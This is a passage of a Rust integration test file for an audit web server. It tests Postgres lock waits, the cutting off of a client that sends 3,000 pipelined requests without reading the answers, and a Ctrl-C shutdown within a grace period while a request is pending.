        left = sqlx::query_scalar(waiting).fetch_one(store.postgres_pool().unwrap()).await.unwrap();
        if left == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(left, 0, "statements still waiting for the lock after the pages were answered");
    holder.execute("ROLLBACK").await.unwrap();
    assert_eq!(get(&server, "/serial", &[("serial", &serial)]).await.0, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_stops_reading_its_answers_is_cut_off() {
    let db = TestDb::sqlite().await;
    db.store().await.close().await;
    let server = Server::start_with(&db.url_string(), &[], &[("AUDIT_SERVE_LIMITS", "writes=1000,headers=60000")]);
    // 3,000 requests in one go (about 9 MB of answers, more than the sockets' buffers hold),
    // and not a byte read.
    let mut reader = TcpStream::connect(server.addr()).expect("connect");
    let one = b"GET /status HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
    reader.write_all(&one.repeat(3000)).expect("send the requests");
    std::thread::sleep(Duration::from_secs(4));
    // Reading now gets what was sent before the server gave up, then the end: not every answer,
    // and no wait for the rest.
    reader.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let started = Instant::now();
    let mut buf = vec![0; 1 << 16];
    let mut answers = 0;
    loop {
        match reader.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => answers += buf[..n].windows(15).filter(|w| w == b"HTTP/1.1 200 OK").count(),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => break,
            Err(e) => {
                panic!("the connection is still open after {:?} ({e}); {answers} answers read", started.elapsed())
            }
        }
    }
    assert!(answers < 3000, "{answers} answers: the server waited for the client to read them all");
    // And the view still answers others.
    assert_eq!(get(&server, "/status", &[]).await.0, 200);
}

/// Ctrl-C while a page waits (Postgres, a table locked by another session): the stop waits
/// for the page for the grace period only, then exits, over TLS too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ctrl_c_stops_serve_within_the_grace_while_a_page_waits() {
    use sqlx::{Connection, Executor};
    let Some(db) = TestDb::postgres().await else { return };
    let (sim, _store) = company(&db).await;
    let serial = sim.scenario().build_chain.unit.serial.clone();
    let mut server = Server::start_with(&db.url_string(), &[], &[("AUDIT_SERVE_LIMITS", "grace=1000")]);
    let mut holder = sqlx::PgConnection::connect(db.url.expose()).await.unwrap();
    holder.execute("BEGIN; LOCK TABLE serial_events IN ACCESS EXCLUSIVE MODE").await.unwrap();
    let base = server.base.clone();
    let waiting =
        tokio::spawn(async move { http().get(format!("{base}/serial")).query(&[("serial", &serial)]).send().await });
    tokio::time::sleep(Duration::from_millis(500)).await;
    let (status, took) = server.interrupt(Duration::from_secs(8));
    holder.execute("ROLLBACK").await.unwrap();
    assert!(status.success(), "{status}");
    assert!(took < Duration::from_secs(5), "{took:?}");
    assert!(waiting.await.unwrap().is_err(), "the page waiting was not answered, its connection closed");
}
